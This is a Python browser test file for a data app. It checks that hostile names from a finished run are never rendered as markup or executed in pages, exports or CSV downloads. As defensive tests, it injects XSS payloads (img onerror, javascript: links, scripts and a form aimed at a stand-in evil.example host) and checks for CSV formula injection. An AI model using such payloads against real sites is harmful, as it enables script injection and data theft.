"""Hostile names through every page and tab of a finished race, its documents and its exports, and the policy that holds them back."""

from __future__ import annotations

import ast
import csv
import io
import json
import re
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page

from synth_ui import api
from synth_ui.store.workspace import Workspace
from synth_ui.ui.screens import SCREENS, Screen
from tests import hostile
from tests.browser.conftest import Server, start
from tests.browser.test_app import settled

Raced = tuple[Server, str]

FOUND = """() => {
  const inside = [...document.querySelectorAll('iframe')].map(one => one.contentDocument).filter(Boolean);
  const bad = [];
  for (const doc of [document, ...inside]) {
    for (const one of doc.querySelectorAll('img, a, iframe, svg, script, form, embed, object')) {
      const said = [one.getAttribute('src'), one.getAttribute('href'), one.getAttribute('onload'), one.getAttribute('onerror')].join(' ');
      if (/evil|javascript:|hacked|src=x/.test(said)) bad.push(one.outerHTML.slice(0, 200));
    }
    if (doc.querySelector('.katex')) bad.push('a formula was set');
    if (doc.defaultView && doc.defaultView.hacked) bad.push('ran: ' + doc.defaultView.hacked);
  }
  if (window.hacked) bad.push('ran: ' + window.hacked);
  if (document.querySelector('[data-testid=stException]')) bad.push(document.querySelector('[data-testid=stException]').innerText.slice(0, 400));
  const main = document.querySelector('[data-testid=stMain]');
  if (main && main.scrollWidth > main.clientWidth) bad.push('too wide by ' + (main.scrollWidth - main.clientWidth));
  return bad;
}"""
"""What a name that was taken for markup, or run, would leave in a page."""


@pytest.fixture(scope="module")
def raced(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Raced]:
    folder = tmp_path_factory.mktemp("hostile")
    race_id = hostile.run(folder)
    server = start(folder)
    yield server, race_id
    server.stop()


SHOWN = [screen for screen in SCREENS if screen.file not in ("glossary", "design", "system")]
"""The pages on which something of a table stands."""


def unfold(page: Page) -> None:
    """Open every tab and everything that is folded in the main part, one after the other; nothing may come of it."""
    main = page.locator("[data-testid=stMain]")
    for kind in ("[role=tab]", "details > summary"):
        found = main.locator(kind)
        for place in range(found.count()):
            one = found.nth(place)
            if one.is_visible() and one.get_attribute("aria-selected") != "true":
                one.click()
                settled(page)
                assert page.evaluate(FOUND) == []


@pytest.mark.parametrize("screen", SHOWN, ids=lambda screen: screen.file)
def test_no_name_is_taken_for_markup_or_run_on_any_page(raced: Raced, open_page: Callable[..., Page], screen: Screen) -> None:
    server, race_id = raced
    page = open_page(f"{server.url}/{'' if screen == SCREENS[0] else screen.file}?race={race_id}")
    page.on("dialog", lambda dialog: pytest.fail(f"a dialog: {dialog.message}"))
    settled(page)
    assert page.evaluate(FOUND) == []
    unfold(page)
    for chart in page.locator("[data-testid=stPlotlyChart]:visible").all()[:3]:
        chart.hover()
    assert page.evaluate(FOUND) == []


def test_a_script_that_gets_into_a_page_all_the_same_does_not_run(raced: Raced, browser: Browser) -> None:
    server, _ = raced
    page = browser.new_page()
    said: list[str] = []
    page.on("console", lambda one: said.append(one.text) if one.type == "error" else None)
    page.goto(server.url)
    page.wait_for_selector("[data-testid=stMain]")
    page.evaluate(
        """() => {
          const main = document.querySelector('[data-testid=stMain]');
          main.insertAdjacentHTML('beforeend', '<img src=x onerror="window.hacked=1"><a id=link href="javascript:window.hacked=2">a</a>');
          main.insertAdjacentHTML('beforeend', '<form id=form action="http://evil.example/"><input name=a></form>');
          const script = document.createElement('script'); script.textContent = 'window.hacked=3'; main.append(script);
          const far = document.createElement('script'); far.src = 'http://evil.example/a.js'; main.append(far);
          document.getElementById('link').click();
          document.getElementById('form').submit();
        }"""
    )
    refused = page.evaluate("fetch('http://evil.example/').then(() => 'sent', () => 'refused')")
    page.wait_for_timeout(300)
    assert refused == "refused"
    assert page.evaluate("window.hacked") is None
    for rule in ("script-src", "connect-src", "form-action"):
        assert any(rule in text for text in said), f"{rule}: {said}"
    page.close()


def test_documents_and_exports_hold_names_as_texts(raced: Raced, browser: Browser, tmp_path: Path) -> None:
    server, race_id = raced
    result = api.stored(Workspace.open(server.home), race_id)
    documents = {
        "report": result.html(),
        "card": result.decision_card().html(),
        "slides": result.slides(rows=True),
    }
    page, asked = browser.new_page(), list[str]()
    page.on("request", lambda one: asked.append(one.url) if not one.url.startswith(("file:", "data:")) else None)
    page.on("console", lambda one: asked.append(one.text) if one.type == "error" else None)
    for name, text in documents.items():
        (tmp_path / f"{name}.html").write_text(text, encoding="utf-8")
        page.goto((tmp_path / f"{name}.html").as_uri())
        page.evaluate("document.querySelectorAll('details').forEach(one => one.open = true)")
        assert page.evaluate(FOUND) == [], name
    page.close()
    assert not asked
    script = result.script("bayes_net")
    called = {ast.unparse(node.func).split(".")[-1] for node in ast.walk(ast.parse(script)) if isinstance(node, ast.Call)}
    known = {
        "read",
        "revise",
        "generate",
        "make_split",
        "to_csv",
        "write_bytes",
        "print",
        "Path",
        "dumps",
        "loads",
        "len",
        "main",
    }
    assert called <= known, called - known
    notebook = json.loads(result.script("bayes_net", notebook=True))
    cells = ["".join(cell["source"]) for cell in notebook["cells"]]
    assert not any(
        re.search(r"<img|<script|<svg", cell)
        for cell, kind in zip(cells, notebook["cells"], strict=True)
        if kind["cell_type"] == "markdown"
    )
    for cell in notebook["cells"]:
        if cell["cell_type"] == "code":
            ast.parse("".join(cell["source"]))


def test_rows_taken_from_the_page_hold_no_formula(raced: Raced, open_page: Callable[..., Page]) -> None:
    server, race_id = raced
    page = open_page(f"{server.url}/take_away?race={race_id}")
    settled(page)
    with page.expect_download() as download:
        page.locator(".st-key-take_rows button").click()
    assert re.fullmatch(r"[\w.-]+\.csv", download.value.suggested_filename)
    rows = list(csv.reader(io.StringIO(download.value.path().read_text(encoding="utf-8"))))
    number = re.compile(r"[+-]?[0-9.,e-]*")
    assert not [
        cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r")) and not number.fullmatch(cell)
    ]
    assert any(cell.startswith("'=HYPERLINK") for cell in rows[0])
